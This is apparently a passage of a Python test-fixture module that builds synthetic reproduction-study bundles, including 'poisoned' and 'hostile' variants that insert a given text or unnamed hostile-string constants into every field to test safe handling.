            pl.Series("details", details, dtype=pl.String)
        )
    verdicts = base.frame("verdicts")
    noted = [encoded([NotAttempted(note)]) for note in _cycled(verdicts.height)]
    changed["verdicts"] = verdicts.with_columns(pl.Series("reasons", noted))
    notes = "\n\n".join(["# " + EVIL, *HOSTILE, "- " + HOSTILE[1] + "\n- " + EVIL])
    provenance = replace(
        base.provenance,
        notes=notes,
        rerun=EVIL,
        versions={EVIL: HOSTILE[1]},
        trusted_code=tuple(HOSTILE),
    )
    return Bundle(made, base.frames | changed, provenance)


def poisoned(text: str, mark: Callable[[str], str] = lambda place: "") -> Bundle:
    """A small study in which one text is every name, title, reason and remark: two families, two classes.

    `mark` says what follows the text in a place: by default nothing.
    """
    title, citation, family, error = (
        text + mark(place) for place in ("title", "citation", "family", "error")
    )
    dataset, feature, class_, finding = (
        text + mark(place) for place in ("dataset", "feature", "class", "finding")
    )
    names = {
        "wine": {
            "source": {"kind": "sklearn", "name": "wine"},
            "target": text,
            "title": dataset,
        }
    }
    claim = {"id": "one", "kind": "value", "dataset": "wine", "family": "lda", "metric": "accuracy", "value": "94.2",
             "unit": "percent", "where": text, "note": text, "read": "source"}  # fmt: skip
    made = study(
        "poisoned", title=title, question=text, datasets=names, claims=[claim], deviations=[{"what": "data", "note": text}],
        families={"lda": {"title": family}, "svm": {"title": f"{text} 2"}},
        paper={"citation": citation, "year": 1999, "url": f"https://example.org/{text}", "doi": f"10.1/{text}",
               "summary": text},
        tolerance={"accuracy": 0.01, "why": text}, checklist={"1a": text, "2a": text},
        compare={"level": 0.95, "rope": 0.01, "why": text}, metrics={"primary": "accuracy"},
    )  # fmt: skip
    classes = [class_, f"{class_} 2"]
    given = scores(made, 30, lambda d, f, m: 0.93 if f == "lda" else 0.9)
    compared = comparisons(made, given, 0.02)
    for rows in (given, compared["estimates"]):  # a name, as tables give them
        rows += [
            row | {"family": f"{text} 3"} for row in rows if row["family"] == "lda"
        ]
    key = {
        "dataset": "wine",
        "family": "lda",
        "variant": "plain",
        "repeat": 0,
        "fold": 0,
        "policy": text,
    }
    found = {
        "code": "L2",
        "diagnostic": "leakage",
        "dataset": "wine",
        "outcome": "found",
        "severity": "note",
    }
    step = {
        "dataset": "wine",
        "order": 0,
        "step": "drop_duplicates",
        "parameters": text,
        "example": text,
    }
    sizes = (
        "rows_before",
        "rows_after",
        "columns_before",
        "columns_after",
        "cells_changed",
    )
    noted = encoded([NotAttempted(text)])
    remark = {
        "dataset": "wine",
        "code": "id_like",
        "column": feature,
        "severity": "note",
        "count": 1,
    }
    return made_of(
        made,
        tables=[row | {"source": text} for row in tables(made, 30, 3, classes)],
        folds=folds(made, 30),
        scores=given,
        **compared,
        verdicts=[
            verdict(
                "one",
                "not_reproduced",
                "wine",
                "lda",
                "94.2",
                reasons=noted,
                doubts="data",
            )
        ],
        predictions=predictions(made, 30, classes),
        failures=[key | {"status": "warning", "stage": "fit", "reason": error}],
        findings=[found | {"details": encoded([Incompatible(finding)])}],
        cleaning=[step | dict.fromkeys(sizes, 3)],
        remarks=[remark | {"details": encoded([IdLike(feature)])}],
        **profile(made, 30, [feature, f"{feature} 2", "plain"], classes),
    )


def _cycled(n: int) -> pl.Series:
    return pl.Series([HOSTILE[i % len(HOSTILE)] for i in range(n)], dtype=pl.String)


ALL: dict[str, Callable[[], Bundle]] = {
    "classification": classification,
    "regression": regression,
    "leave_one_out": leave_one_out,
    "barren": barren,
    "many_sets": many_sets,
    "hostile": hostile,
}


def with_deviations(
    stated: list[dict[str, Any]],
) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Claims without their key `doubt`, and the deviations that these say."""
    claims, deviations = [], []
    for claim in stated:
        what = claim.get("doubt")
        claims.append({key: one for key, one in claim.items() if key != "doubt"})
        if what:
            deviations.append({"what": what, "of": [claim["id"]], "note": "Another."})
    return claims, deviations
